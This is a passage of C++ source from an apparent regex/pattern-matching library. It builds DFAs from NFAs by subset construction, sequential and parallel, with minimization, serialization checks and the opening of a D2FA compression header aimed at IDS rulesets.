Explored explore_sequential(const nfa::Nfa& nfa, const ClassifiedNfa& cn,
                            std::uint16_t ncls, std::uint32_t max_states) {
  Explored out;
  std::unordered_map<std::vector<std::uint32_t>, std::uint32_t, VecHash> subset_to_id;
  auto& subsets = out.subsets;
  auto& table = out.table;

  bool overflow = false;
  const auto intern = [&](std::vector<std::uint32_t> subset) -> std::uint32_t {
    const auto [it, inserted] =
        subset_to_id.try_emplace(std::move(subset), static_cast<std::uint32_t>(subsets.size()));
    if (inserted) {
      if (subsets.size() >= max_states) {
        overflow = true;
        return UINT32_MAX;
      }
      subsets.push_back(it->first);
    }
    return it->second;
  };

  intern({nfa.start()});
  if (overflow) {  // max_states == 0
    out.failed = true;
    out.discovered = 0;
    return out;
  }

  // Per-class target buckets, reused across states; dirty list for cheap reset.
  std::vector<std::vector<std::uint32_t>> buckets(ncls);
  std::vector<std::uint16_t> dirty;

  for (std::uint32_t ds = 0; ds < subsets.size() && !overflow; ++ds) {
    // Work on a copy: `subsets` may reallocate when interning successors.
    const std::vector<std::uint32_t> members = subsets[ds];
    for (const std::uint16_t c : dirty) buckets[c].clear();
    dirty.clear();
    for (const std::uint32_t m : members) {
      for (std::uint32_t e = cn.row_offsets[m]; e < cn.row_offsets[m + 1]; ++e) {
        const auto [c, target] = cn.entries[e];
        if (buckets[c].empty()) dirty.push_back(c);
        buckets[c].push_back(target);
      }
    }
    table.resize(static_cast<std::size_t>(ds + 1) * ncls, UINT32_MAX);
    // Classes with no outgoing transition go to the dead subset {}; an NFA
    // with unanchored dot-star prefixes keeps its start self-loop, so the
    // empty subset only appears for fully-anchored pattern sets, where it
    // acts as a plain sink state.
    for (std::uint16_t c = 0; c < ncls; ++c) {
      auto& b = buckets[c];
      std::sort(b.begin(), b.end());
      b.erase(std::unique(b.begin(), b.end()), b.end());
      const std::uint32_t id = intern(b);
      if (overflow) break;
      table[static_cast<std::size_t>(ds) * ncls + c] = id;
    }
  }

  out.discovered = static_cast<std::uint32_t>(subsets.size());
  out.failed = overflow;
  return out;
}

/// Parallel explorer: work-stealing over the discovery frontier.
///
/// Interning is striped over 64 mutex-guarded maps; every new subset gets a
/// provisional id from one atomic counter and is published to a paged slot
/// array (release store of the map node's stable key address). The work
/// list needs no queue at all: provisional ids are dense, so workers CLAIM
/// the next unprocessed id range off a second atomic cursor — stealing is
/// just fetch-add on shared state, and a claimed id's subset is awaited via
/// its published slot. Termination: processed == assigned, stable.
///
/// Provisional numbering is race order, so a canonical BFS renumbering
/// afterwards (start first, successors in class order) makes the result
/// byte-identical to the sequential explorer for any thread count.
Explored explore_parallel(const nfa::Nfa& nfa, const ClassifiedNfa& cn,
                          std::uint16_t ncls, std::uint32_t max_states,
                          std::uint32_t threads) {
  constexpr std::size_t kShardCount = 64;
  constexpr std::uint32_t kPage = 1024;          // subset slots per page
  constexpr std::uint64_t kClaimBatch = 8;       // ids claimed per steal

  struct Shard {
    std::mutex mu;
    std::unordered_map<std::vector<std::uint32_t>, std::uint32_t, VecHash> map;
  };
  std::vector<Shard> shards(kShardCount);

  // Paged publication slots: subset members by provisional id. Pages are
  // allocated on demand (double-checked via atomic page pointers) so a tiny
  // automaton under a huge cap does not pre-pay cap-sized storage.
  using Slot = std::atomic<const std::vector<std::uint32_t>*>;
  const std::size_t page_count = static_cast<std::size_t>(max_states) / kPage + 1;
  std::vector<std::atomic<Slot*>> pages(page_count);
  for (auto& p : pages) p.store(nullptr, std::memory_order_relaxed);
  std::mutex page_mu;
  const auto slot_of = [&](std::uint32_t id) -> Slot& {
    const std::size_t pg = id / kPage;
    Slot* page = pages[pg].load(std::memory_order_acquire);
    if (page == nullptr) {
      std::lock_guard<std::mutex> lock(page_mu);
      page = pages[pg].load(std::memory_order_relaxed);
      if (page == nullptr) {
        page = new Slot[kPage];
        for (std::uint32_t i = 0; i < kPage; ++i)
          page[i].store(nullptr, std::memory_order_relaxed);
        pages[pg].store(page, std::memory_order_release);
      }
    }
    return page[id % kPage];
  };

  std::atomic<std::uint64_t> assigned{0};   // provisional ids handed out
  std::atomic<std::uint64_t> next_claim{0};
  std::atomic<std::uint64_t> processed{0};
  std::atomic<bool> overflow{false};

  const auto intern = [&](std::vector<std::uint32_t> subset) -> std::uint32_t {
    const std::size_t h = VecHash{}(subset);
    Shard& sh = shards[h % kShardCount];
    std::lock_guard<std::mutex> lock(sh.mu);
    const auto it = sh.map.find(subset);
    if (it != sh.map.end()) return it->second;
    const auto id =
        static_cast<std::uint32_t>(assigned.fetch_add(1, std::memory_order_acq_rel));
    if (id >= max_states) {
      overflow.store(true, std::memory_order_release);
      return UINT32_MAX;
    }
    const auto [node, fresh] = sh.map.emplace(std::move(subset), id);
    (void)fresh;
    slot_of(id).store(&node->first, std::memory_order_release);
    return id;
  };

  intern({nfa.start()});

  // Per-worker row output: (provisional id, row) pairs, scattered into the
  // provisional table after the join. No cross-thread row sharing.
  struct WorkerOut {
    std::vector<std::pair<std::uint32_t, std::vector<std::uint32_t>>> rows;
  };
  std::vector<WorkerOut> outs(threads);

  const auto worker = [&](WorkerOut& out) {
    std::vector<std::vector<std::uint32_t>> buckets(ncls);
    std::vector<std::uint16_t> dirty;
    for (;;) {
      if (overflow.load(std::memory_order_acquire)) return;
      std::uint64_t k = next_claim.load(std::memory_order_acquire);
      const std::uint64_t n =
          std::min<std::uint64_t>(assigned.load(std::memory_order_acquire), max_states);
      if (k >= n) {
        // Done only when every assigned id is processed AND no new ids
        // appeared between the two reads (a processing worker is the only
        // thing that can assign more).
        if (processed.load(std::memory_order_acquire) == n &&
            std::min<std::uint64_t>(assigned.load(std::memory_order_acquire),
                                    max_states) == n)
          return;
        std::this_thread::yield();
        continue;
      }
      const std::uint64_t take = std::min(kClaimBatch, n - k);
      if (!next_claim.compare_exchange_weak(k, k + take, std::memory_order_acq_rel))
        continue;
      for (std::uint64_t id = k; id < k + take; ++id) {
        // Await publication (the assigning thread stores the slot right
        // after taking the id).
        const std::vector<std::uint32_t>* members_ptr;
        while ((members_ptr = slot_of(static_cast<std::uint32_t>(id))
                    .load(std::memory_order_acquire)) == nullptr) {
          if (overflow.load(std::memory_order_acquire)) return;
          std::this_thread::yield();
        }
        const std::vector<std::uint32_t>& members = *members_ptr;
        for (const std::uint16_t c : dirty) buckets[c].clear();
        dirty.clear();
        for (const std::uint32_t m : members) {
          for (std::uint32_t e = cn.row_offsets[m]; e < cn.row_offsets[m + 1]; ++e) {
            const auto [c, target] = cn.entries[e];
            if (buckets[c].empty()) dirty.push_back(c);
            buckets[c].push_back(target);
          }
        }
        std::vector<std::uint32_t> row(ncls, UINT32_MAX);
        for (std::uint16_t c = 0; c < ncls; ++c) {
          auto& b = buckets[c];
          std::sort(b.begin(), b.end());
          b.erase(std::unique(b.begin(), b.end()), b.end());
          row[c] = intern(b);
          if (overflow.load(std::memory_order_relaxed)) return;
        }
        out.rows.emplace_back(static_cast<std::uint32_t>(id), std::move(row));
        processed.fetch_add(1, std::memory_order_acq_rel);
      }
    }
  };

  {
    std::vector<std::thread> pool;
    pool.reserve(threads);
    for (std::uint32_t t = 0; t < threads; ++t)
      pool.emplace_back(worker, std::ref(outs[t]));
    for (auto& th : pool) th.join();
  }

  Explored out;
  if (overflow.load(std::memory_order_acquire)) {
    out.failed = true;
    out.discovered = max_states;
    for (auto& p : pages) delete[] p.load(std::memory_order_relaxed);
    return out;
  }

  const auto n = static_cast<std::uint32_t>(assigned.load(std::memory_order_acquire));
  // Scatter provisional rows and subset pointers into id-indexed arrays.
  std::vector<const std::vector<std::uint32_t>*> prov_subset(n, nullptr);
  std::vector<std::uint32_t> prov_table(static_cast<std::size_t>(n) * ncls, UINT32_MAX);
  for (std::uint32_t id = 0; id < n; ++id)
    prov_subset[id] = slot_of(id).load(std::memory_order_acquire);
  for (const auto& w : outs) {
    for (const auto& [id, row] : w.rows)
      std::copy(row.begin(), row.end(),
                prov_table.begin() + static_cast<std::size_t>(id) * ncls);
  }

  // Canonical renumbering: BFS from the start subset, successors in class
  // order — the exact order the sequential explorer assigns.
  std::vector<std::uint32_t> canon(n, UINT32_MAX);
  std::vector<std::uint32_t> order;  // canonical id -> provisional id
  order.reserve(n);
  canon[0] = 0;  // start is always provisional id 0 (interned pre-spawn)
  order.push_back(0);
  for (std::uint32_t head = 0; head < order.size(); ++head) {
    const std::uint32_t prov = order[head];
    for (std::uint16_t c = 0; c < ncls; ++c) {
      const std::uint32_t target = prov_table[static_cast<std::size_t>(prov) * ncls + c];
      if (canon[target] == UINT32_MAX) {
        canon[target] = static_cast<std::uint32_t>(order.size());
        order.push_back(target);
      }
    }
  }

  out.subsets.resize(n);
  out.table.assign(static_cast<std::size_t>(n) * ncls, UINT32_MAX);
  for (std::uint32_t cid = 0; cid < n; ++cid) {
    const std::uint32_t prov = order[cid];
    out.subsets[cid] = *prov_subset[prov];
    for (std::uint16_t c = 0; c < ncls; ++c)
      out.table[static_cast<std::size_t>(cid) * ncls + c] =
          canon[prov_table[static_cast<std::size_t>(prov) * ncls + c]];
  }
  out.discovered = n;
  for (auto& p : pages) delete[] p.load(std::memory_order_relaxed);
  return out;
}

}  // namespace

std::optional<Dfa> build_dfa(const nfa::Nfa& nfa, const BuildOptions& options,
                             BuildStats* stats) {
  util::WallTimer timer;
  BuildStats local_stats;
  BuildStats& st = stats != nullptr ? *stats : local_stats;

  const auto [byte_to_col, ncls] = compute_byte_classes(nfa);
  const ClassifiedNfa cn = classify(nfa, byte_to_col, ncls);

  std::uint32_t threads = options.threads;
  if (threads == 0) {
    threads = std::max(1u, std::thread::hardware_concurrency());
    threads = std::min(threads, 64u);
  }
  Explored explored =
      threads <= 1
          ? explore_sequential(nfa, cn, ncls, options.max_states)
          : explore_parallel(nfa, cn, ncls, options.max_states, threads);
  if (explored.failed) {
    st.failed = true;
    st.seconds = timer.seconds();
    st.states = explored.discovered;
    return std::nullopt;
  }
  std::vector<std::vector<std::uint32_t>>& subsets = explored.subsets;
  std::vector<std::uint32_t>& table = explored.table;

  const auto n = static_cast<std::uint32_t>(subsets.size());

  // Accept sets per DFA state.
  std::vector<std::vector<std::uint32_t>> accept_sets(n);
  for (std::uint32_t ds = 0; ds < n; ++ds) {
    std::vector<std::uint32_t>& out = accept_sets[ds];
    for (const std::uint32_t m : subsets[ds]) {
      const auto& ids = nfa.accepts(m);
      out.insert(out.end(), ids.begin(), ids.end());
    }
    std::sort(out.begin(), out.end());
    out.erase(std::unique(out.begin(), out.end()), out.end());
  }

  st.states = n;
  st.minimized = n;

  // Optional minimization.
  std::vector<std::uint32_t> state_map(n);
  std::uint32_t final_n = n;
  std::vector<std::uint32_t> min_table;
  std::vector<std::vector<std::uint32_t>> min_accepts;
  if (options.minimize) {
    auto [block, block_count] = minimize_partition(table, ncls, accept_sets);
    final_n = block_count;
    min_table.assign(static_cast<std::size_t>(final_n) * ncls, 0);
    min_accepts.resize(final_n);
    std::vector<bool> done(final_n, false);
    for (std::uint32_t s = 0; s < n; ++s) {
      const std::uint32_t b = block[s];
      if (!done[b]) {
        done[b] = true;
        for (std::uint16_t c = 0; c < ncls; ++c)
          min_table[static_cast<std::size_t>(b) * ncls + c] = block[table[s * ncls + c]];
        min_accepts[b] = accept_sets[s];
      }
    }
    state_map = std::move(block);
    st.minimized = final_n;
  } else {
    for (std::uint32_t s = 0; s < n; ++s) state_map[s] = s;
    min_table = std::move(table);
    min_accepts = std::move(accept_sets);
  }

  // Remap so accepting states occupy [0, accept_count): the scanner's
  // accept test becomes a single compare.
  std::vector<std::uint32_t> remap(final_n);
  std::uint32_t next_accepting = 0;
  std::uint32_t accept_count = 0;
  for (std::uint32_t s = 0; s < final_n; ++s)
    if (!min_accepts[s].empty()) ++accept_count;
  std::uint32_t next_plain = accept_count;
  for (std::uint32_t s = 0; s < final_n; ++s)
    remap[s] = min_accepts[s].empty() ? next_plain++ : next_accepting++;

  Dfa dfa;
  dfa.state_count_ = final_n;
  dfa.accept_states_ = accept_count;
  dfa.max_match_id_ = nfa.max_match_id();
  dfa.ncols_ = ncls;
  dfa.byte_to_col_ = byte_to_col;
  dfa.start_ = remap[state_map[0]];
  dfa.table_.assign(static_cast<std::size_t>(final_n) * ncls, 0);
  for (std::uint32_t s = 0; s < final_n; ++s) {
    for (std::uint16_t c = 0; c < ncls; ++c)
      dfa.table_[static_cast<std::size_t>(remap[s]) * ncls + c] =
          remap[min_table[static_cast<std::size_t>(s) * ncls + c]];
  }
  dfa.accept_offsets_.assign(accept_count + 1, 0);
  for (std::uint32_t s = 0; s < final_n; ++s) {
    if (!min_accepts[s].empty())
      dfa.accept_offsets_[remap[s] + 1] = static_cast<std::uint32_t>(min_accepts[s].size());
  }
  for (std::uint32_t i = 1; i <= accept_count; ++i)
    dfa.accept_offsets_[i] += dfa.accept_offsets_[i - 1];
  dfa.accept_ids_.resize(dfa.accept_offsets_[accept_count]);
  for (std::uint32_t s = 0; s < final_n; ++s) {
    if (min_accepts[s].empty()) continue;
    std::copy(min_accepts[s].begin(), min_accepts[s].end(),
              dfa.accept_ids_.begin() + dfa.accept_offsets_[remap[s]]);
  }

  st.seconds = timer.seconds();
  return dfa;
}

std::size_t Dfa::memory_image_bytes(bool full_alphabet) const {
  const std::size_t cols = full_alphabet ? 256 : ncols_;
  std::size_t bytes = static_cast<std::size_t>(state_count_) * cols * sizeof(std::uint32_t);
  if (!full_alphabet) bytes += 256;  // byte -> column map
  bytes += accept_offsets_.size() * sizeof(std::uint32_t);
  bytes += accept_ids_.size() * sizeof(std::uint32_t);
  return bytes;
}

}  // namespace mfa::dfa

namespace mfa::dfa {

void Dfa::serialize(util::BinWriter& w) const {
  w.u32(state_count_);
  w.u32(start_);
  w.u32(accept_states_);
  w.u32(max_match_id_);
  w.u16(ncols_);
  w.bytes(byte_to_col_.data(), byte_to_col_.size());
  w.pod_vec(table_);
  w.pod_vec(accept_offsets_);
  w.pod_vec(accept_ids_);
}

bool Dfa::deserialize(util::BinReader& r, Dfa& out, bool allow_empty_table) {
  out.state_count_ = r.u32();
  out.start_ = r.u32();
  out.accept_states_ = r.u32();
  out.max_match_id_ = r.u32();
  out.ncols_ = r.u16();
  r.bytes(out.byte_to_col_.data(), out.byte_to_col_.size());
  out.table_ = r.pod_vec<std::uint32_t>();
  out.accept_offsets_ = r.pod_vec<std::uint32_t>();
  out.accept_ids_ = r.pod_vec<std::uint32_t>();
  if (!r.ok()) return false;

  // Structural validation: a corrupt file must fail here, not crash later
  // in the scanning hot loop.
  if (out.ncols_ == 0 || out.ncols_ > 256) return false;
  if (out.state_count_ == 0 || out.start_ >= out.state_count_) return false;
  if (out.accept_states_ > out.state_count_) return false;
  const bool headless = allow_empty_table && out.table_.empty();
  if (!headless && out.table_.size() !=
                       static_cast<std::size_t>(out.state_count_) * out.ncols_)
    return false;
  for (const std::uint8_t col : out.byte_to_col_)
    if (col >= out.ncols_) return false;
  for (const std::uint32_t target : out.table_)
    if (target >= out.state_count_) return false;
  if (out.accept_offsets_.size() != out.accept_states_ + 1u) return false;
  if (!out.accept_offsets_.empty() && out.accept_offsets_.front() != 0) return false;
  for (std::size_t i = 1; i < out.accept_offsets_.size(); ++i) {
    if (out.accept_offsets_[i] < out.accept_offsets_[i - 1]) return false;
  }
  if (!out.accept_offsets_.empty() && out.accept_offsets_.back() != out.accept_ids_.size())
    return false;
  for (const std::uint32_t id : out.accept_ids_)
    if (id > out.max_match_id_) return false;
  for (std::uint32_t s = 0; s < out.accept_states_; ++s)
    if (out.accept_offsets_[s] == out.accept_offsets_[s + 1]) return false;
  return true;
}

}  // namespace mfa::dfa
