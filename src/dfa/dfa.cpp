#include "dfa/dfa.h"

#include <algorithm>
#include <array>
#include <unordered_map>

#include "util/timing.h"

namespace mfa::dfa {

std::pair<std::array<std::uint8_t, 256>, std::uint16_t> compute_byte_classes(
    const nfa::Nfa& nfa) {
  // Partition refinement: start with one class holding all bytes and split
  // by every distinct transition label. Exact (no hashing).
  std::array<std::uint16_t, 256> cls{};
  std::uint16_t class_count = 1;
  // Temporary ids during one split round can reach 2 * class_count <= 512.
  std::array<std::uint16_t, 512> split_map{};  // old class -> in-label class
  std::array<std::uint16_t, 512> renumber{};
  for (const auto& label : nfa.distinct_labels()) {
    std::fill(split_map.begin(), split_map.end(), std::uint16_t{0xffff});
    std::uint16_t next_id = class_count;
    for (unsigned b = 0; b < 256; ++b) {
      if (!label.test(static_cast<unsigned char>(b))) continue;
      const std::uint16_t old = cls[b];
      if (split_map[old] == 0xffff) split_map[old] = next_id++;
      cls[b] = split_map[old];
    }
    // Renumber densely in first-byte order. When an entire class was inside
    // the label the old id simply disappears, which keeps the partition
    // correct and the count minimal.
    std::fill(renumber.begin(), renumber.end(), std::uint16_t{0xffff});
    std::uint16_t dense = 0;
    for (unsigned b = 0; b < 256; ++b) {
      if (renumber[cls[b]] == 0xffff) renumber[cls[b]] = dense++;
      cls[b] = renumber[cls[b]];
    }
    class_count = dense;
  }
  std::array<std::uint8_t, 256> out{};
  for (unsigned b = 0; b < 256; ++b) out[b] = static_cast<std::uint8_t>(cls[b]);
  return {out, class_count};
}

namespace {

struct VecHash {
  std::size_t operator()(const std::vector<std::uint32_t>& v) const {
    std::uint64_t h = 0xcbf29ce484222325ULL;
    for (const std::uint32_t x : v) {
      h ^= x;
      h *= 0x100000001b3ULL;
    }
    return static_cast<std::size_t>(h);
  }
};

/// Per-NFA-state transition rows pre-resolved to byte classes:
/// CSR of (class, target) pairs sorted by class.
struct ClassifiedNfa {
  std::vector<std::uint32_t> row_offsets;  // per state
  std::vector<std::pair<std::uint16_t, std::uint32_t>> entries;
};

ClassifiedNfa classify(const nfa::Nfa& nfa, const std::array<std::uint8_t, 256>& cls,
                       std::uint16_t ncls) {
  // Representative byte per class.
  std::vector<unsigned char> rep(ncls);
  for (int b = 255; b >= 0; --b) rep[cls[static_cast<unsigned>(b)]] = static_cast<unsigned char>(b);

  ClassifiedNfa out;
  out.row_offsets.assign(nfa.state_count() + 1, 0);
  for (std::uint32_t s = 0; s < nfa.state_count(); ++s) {
    out.row_offsets[s] = static_cast<std::uint32_t>(out.entries.size());
    for (const auto& t : nfa.transitions_from(s)) {
      for (std::uint16_t c = 0; c < ncls; ++c) {
        if (t.cc.test(rep[c])) out.entries.emplace_back(c, t.target);
      }
    }
    std::sort(out.entries.begin() + out.row_offsets[s], out.entries.end());
  }
  out.row_offsets[nfa.state_count()] = static_cast<std::uint32_t>(out.entries.size());
  return out;
}

/// Moore partition refinement; returns the new state id of every old state
/// and the new state count.
std::pair<std::vector<std::uint32_t>, std::uint32_t> minimize_partition(
    const std::vector<std::uint32_t>& table, std::uint16_t ncols,
    const std::vector<std::vector<std::uint32_t>>& accept_sets) {
  const std::size_t n = accept_sets.size();
  std::vector<std::uint32_t> block(n);
  // Initial partition: by accept id set.
  {
    std::unordered_map<std::vector<std::uint32_t>, std::uint32_t, VecHash> sig_to_block;
    for (std::size_t s = 0; s < n; ++s) {
      const auto [it, inserted] = sig_to_block.try_emplace(
          accept_sets[s], static_cast<std::uint32_t>(sig_to_block.size()));
      block[s] = it->second;
    }
  }
  std::uint32_t block_count = 0;
  for (const auto b : block) block_count = std::max(block_count, b + 1);

  std::vector<std::uint32_t> key(ncols + 1);
  while (true) {
    std::unordered_map<std::vector<std::uint32_t>, std::uint32_t, VecHash> sig_to_block;
    std::vector<std::uint32_t> next_block(n);
    for (std::size_t s = 0; s < n; ++s) {
      key[0] = block[s];
      for (std::uint16_t c = 0; c < ncols; ++c) key[c + 1] = block[table[s * ncols + c]];
      const auto [it, inserted] =
          sig_to_block.try_emplace(key, static_cast<std::uint32_t>(sig_to_block.size()));
      next_block[s] = it->second;
    }
    const auto new_count = static_cast<std::uint32_t>(sig_to_block.size());
    block.swap(next_block);
    if (new_count == block_count) break;
    block_count = new_count;
  }
  return {std::move(block), block_count};
}

}  // namespace

std::optional<Dfa> build_dfa(const nfa::Nfa& nfa, const BuildOptions& options,
                             BuildStats* stats) {
  util::WallTimer timer;
  BuildStats local_stats;
  BuildStats& st = stats != nullptr ? *stats : local_stats;

  const auto [byte_to_col, ncls] = compute_byte_classes(nfa);
  const ClassifiedNfa cn = classify(nfa, byte_to_col, ncls);

  // Subset construction over sorted NFA-state vectors.
  std::unordered_map<std::vector<std::uint32_t>, std::uint32_t, VecHash> subset_to_id;
  std::vector<std::vector<std::uint32_t>> subsets;
  std::vector<std::uint32_t> table;  // growing state_count * ncls

  const auto intern = [&](std::vector<std::uint32_t> subset) -> std::uint32_t {
    const auto [it, inserted] =
        subset_to_id.try_emplace(std::move(subset), static_cast<std::uint32_t>(subsets.size()));
    if (inserted) subsets.push_back(it->first);
    return it->second;
  };

  intern({nfa.start()});

  // Per-class target buckets, reused across states; dirty list for cheap reset.
  std::vector<std::vector<std::uint32_t>> buckets(ncls);
  std::vector<std::uint16_t> dirty;

  for (std::uint32_t ds = 0; ds < subsets.size(); ++ds) {
    if (subsets.size() > options.max_states) {
      st.failed = true;
      st.seconds = timer.seconds();
      st.states = static_cast<std::uint32_t>(subsets.size());
      return std::nullopt;
    }
    // Work on a copy: `subsets` may reallocate when interning successors.
    const std::vector<std::uint32_t> members = subsets[ds];
    for (const std::uint16_t c : dirty) buckets[c].clear();
    dirty.clear();
    for (const std::uint32_t m : members) {
      for (std::uint32_t e = cn.row_offsets[m]; e < cn.row_offsets[m + 1]; ++e) {
        const auto [c, target] = cn.entries[e];
        if (buckets[c].empty()) dirty.push_back(c);
        buckets[c].push_back(target);
      }
    }
    table.resize(static_cast<std::size_t>(ds + 1) * ncls, UINT32_MAX);
    // Classes with no outgoing transition go to the dead subset {}; an NFA
    // with unanchored dot-star prefixes keeps its start self-loop, so the
    // empty subset only appears for fully-anchored pattern sets, where it
    // acts as a plain sink state.
    for (std::uint16_t c = 0; c < ncls; ++c) {
      auto& b = buckets[c];
      std::sort(b.begin(), b.end());
      b.erase(std::unique(b.begin(), b.end()), b.end());
      const std::uint32_t id = intern(b);
      table[static_cast<std::size_t>(ds) * ncls + c] = id;
    }
  }

  const auto n = static_cast<std::uint32_t>(subsets.size());

  // Accept sets per DFA state.
  std::vector<std::vector<std::uint32_t>> accept_sets(n);
  for (std::uint32_t ds = 0; ds < n; ++ds) {
    std::vector<std::uint32_t>& out = accept_sets[ds];
    for (const std::uint32_t m : subsets[ds]) {
      const auto& ids = nfa.accepts(m);
      out.insert(out.end(), ids.begin(), ids.end());
    }
    std::sort(out.begin(), out.end());
    out.erase(std::unique(out.begin(), out.end()), out.end());
  }

  st.states = n;
  st.minimized = n;

  // Optional minimization.
  std::vector<std::uint32_t> state_map(n);
  std::uint32_t final_n = n;
  std::vector<std::uint32_t> min_table;
  std::vector<std::vector<std::uint32_t>> min_accepts;
  if (options.minimize) {
    auto [block, block_count] = minimize_partition(table, ncls, accept_sets);
    final_n = block_count;
    min_table.assign(static_cast<std::size_t>(final_n) * ncls, 0);
    min_accepts.resize(final_n);
    std::vector<bool> done(final_n, false);
    for (std::uint32_t s = 0; s < n; ++s) {
      const std::uint32_t b = block[s];
      if (!done[b]) {
        done[b] = true;
        for (std::uint16_t c = 0; c < ncls; ++c)
          min_table[static_cast<std::size_t>(b) * ncls + c] = block[table[s * ncls + c]];
        min_accepts[b] = accept_sets[s];
      }
    }
    state_map = std::move(block);
    st.minimized = final_n;
  } else {
    for (std::uint32_t s = 0; s < n; ++s) state_map[s] = s;
    min_table = std::move(table);
    min_accepts = std::move(accept_sets);
  }

  // Remap so accepting states occupy [0, accept_count): the scanner's
  // accept test becomes a single compare.
  std::vector<std::uint32_t> remap(final_n);
  std::uint32_t next_accepting = 0;
  std::uint32_t accept_count = 0;
  for (std::uint32_t s = 0; s < final_n; ++s)
    if (!min_accepts[s].empty()) ++accept_count;
  std::uint32_t next_plain = accept_count;
  for (std::uint32_t s = 0; s < final_n; ++s)
    remap[s] = min_accepts[s].empty() ? next_plain++ : next_accepting++;

  Dfa dfa;
  dfa.state_count_ = final_n;
  dfa.accept_states_ = accept_count;
  dfa.max_match_id_ = nfa.max_match_id();
  dfa.ncols_ = ncls;
  dfa.byte_to_col_ = byte_to_col;
  dfa.start_ = remap[state_map[0]];
  dfa.table_.assign(static_cast<std::size_t>(final_n) * ncls, 0);
  for (std::uint32_t s = 0; s < final_n; ++s) {
    for (std::uint16_t c = 0; c < ncls; ++c)
      dfa.table_[static_cast<std::size_t>(remap[s]) * ncls + c] =
          remap[min_table[static_cast<std::size_t>(s) * ncls + c]];
  }
  dfa.accept_offsets_.assign(accept_count + 1, 0);
  for (std::uint32_t s = 0; s < final_n; ++s) {
    if (!min_accepts[s].empty())
      dfa.accept_offsets_[remap[s] + 1] = static_cast<std::uint32_t>(min_accepts[s].size());
  }
  for (std::uint32_t i = 1; i <= accept_count; ++i)
    dfa.accept_offsets_[i] += dfa.accept_offsets_[i - 1];
  dfa.accept_ids_.resize(dfa.accept_offsets_[accept_count]);
  for (std::uint32_t s = 0; s < final_n; ++s) {
    if (min_accepts[s].empty()) continue;
    std::copy(min_accepts[s].begin(), min_accepts[s].end(),
              dfa.accept_ids_.begin() + dfa.accept_offsets_[remap[s]]);
  }

  st.seconds = timer.seconds();
  return dfa;
}

std::size_t Dfa::memory_image_bytes(bool full_alphabet) const {
  const std::size_t cols = full_alphabet ? 256 : ncols_;
  std::size_t bytes = static_cast<std::size_t>(state_count_) * cols * sizeof(std::uint32_t);
  if (!full_alphabet) bytes += 256;  // byte -> column map
  bytes += accept_offsets_.size() * sizeof(std::uint32_t);
  bytes += accept_ids_.size() * sizeof(std::uint32_t);
  return bytes;
}

}  // namespace mfa::dfa

namespace mfa::dfa {

void Dfa::serialize(util::BinWriter& w) const {
  w.u32(state_count_);
  w.u32(start_);
  w.u32(accept_states_);
  w.u32(max_match_id_);
  w.u16(ncols_);
  w.bytes(byte_to_col_.data(), byte_to_col_.size());
  w.pod_vec(table_);
  w.pod_vec(accept_offsets_);
  w.pod_vec(accept_ids_);
}

bool Dfa::deserialize(util::BinReader& r, Dfa& out) {
  out.state_count_ = r.u32();
  out.start_ = r.u32();
  out.accept_states_ = r.u32();
  out.max_match_id_ = r.u32();
  out.ncols_ = r.u16();
  r.bytes(out.byte_to_col_.data(), out.byte_to_col_.size());
  out.table_ = r.pod_vec<std::uint32_t>();
  out.accept_offsets_ = r.pod_vec<std::uint32_t>();
  out.accept_ids_ = r.pod_vec<std::uint32_t>();
  if (!r.ok()) return false;

  // Structural validation: a corrupt file must fail here, not crash later
  // in the scanning hot loop.
  if (out.ncols_ == 0 || out.ncols_ > 256) return false;
  if (out.state_count_ == 0 || out.start_ >= out.state_count_) return false;
  if (out.accept_states_ > out.state_count_) return false;
  if (out.table_.size() !=
      static_cast<std::size_t>(out.state_count_) * out.ncols_)
    return false;
  for (const std::uint8_t col : out.byte_to_col_)
    if (col >= out.ncols_) return false;
  for (const std::uint32_t target : out.table_)
    if (target >= out.state_count_) return false;
  if (out.accept_offsets_.size() != out.accept_states_ + 1u) return false;
  if (!out.accept_offsets_.empty() && out.accept_offsets_.front() != 0) return false;
  for (std::size_t i = 1; i < out.accept_offsets_.size(); ++i) {
    if (out.accept_offsets_[i] < out.accept_offsets_[i - 1]) return false;
  }
  if (!out.accept_offsets_.empty() && out.accept_offsets_.back() != out.accept_ids_.size())
    return false;
  for (const std::uint32_t id : out.accept_ids_)
    if (id > out.max_match_id_) return false;
  for (std::uint32_t s = 0; s < out.accept_states_; ++s)
    if (out.accept_offsets_[s] == out.accept_offsets_[s + 1]) return false;
  return true;
}

}  // namespace mfa::dfa
