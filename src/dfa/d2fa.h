// D2FA: default-transition compressed DFA with delta-encoded exceptions.
//
// Related-work context (paper Sec. II and ROADMAP item 4): Kumar et al.'s
// D2FA observes that IDS automaton rows are massively redundant — two
// states often differ in a handful of byte transitions. Instead of one
// modal target per row (CompactDfa), each state gets a *default
// transition* to a similar state chosen by maximum-weight pairwise row
// similarity; only the differing transitions are stored as exceptions.
// Lookup follows default pointers until an exception (or a dense "root"
// row) resolves the byte, so the chain length is the hot-path cost — we
// bound it at construction time (`max_chain`, the diameter bound from the
// D2FA literature) and pick parents only among states whose chain is still
// below the bound, giving a hard worst-case of `max_chain + 1` hops/byte.
//
// Exceptions are delta-encoded against the parent state id (zigzag,
// per-row fixed width of 1/2/4 bytes), layered on the byte-equivalence-
// class alphabet compression — on Snort-class rulesets the combination is
// several-fold smaller than the dense class-compressed table. States whose
// best parent still leaves too many exceptions keep their dense row
// ("roots" of the default-transition forest), which also caps decode work.
#pragma once

#include <cstdint>
#include <vector>

#include "dfa/dfa.h"

namespace mfa::dfa {

struct D2faOptions {
  /// Maximum default-transition chain length (hops before a root). The
  /// scan loop does at most `max_chain + 1` row visits per byte.
  std::uint32_t max_chain = 2;
  /// How many of the most-frequent row targets to score as default-parent
  /// candidates per state (plus the start state). Similarity scoring is
  /// O(candidates * ncols) per state; 8 captures nearly all the win.
  std::uint32_t candidates = 8;
  /// A state keeps its dense row (becomes a forest root) when the best
  /// candidate would still leave more than this percentage of its columns
  /// as exceptions — a weak default is worse than a dense row.
  std::uint32_t dense_threshold_pct = 50;
  /// States within this BFS depth of the start state are forced roots.
  /// Scan time concentrates in the start state's neighborhood (clean
  /// traffic keeps restarting there), so keeping those few rows dense buys
  /// back most of the chain-walk cost for a tiny size overhead. 0 disables.
  std::uint32_t root_depth = 2;
};

struct D2faStats {
  double seconds = 0.0;               ///< wall time spent compressing
  std::uint32_t roots = 0;            ///< states that kept a dense row
  std::uint32_t max_chain = 0;        ///< longest default chain built
  double avg_chain = 0.0;             ///< mean chain length over states
  std::uint64_t exception_entries = 0;  ///< stored exception transitions
};

class D2fa {
 public:
  /// Stable engine label used by telemetry exporters and bench reports.
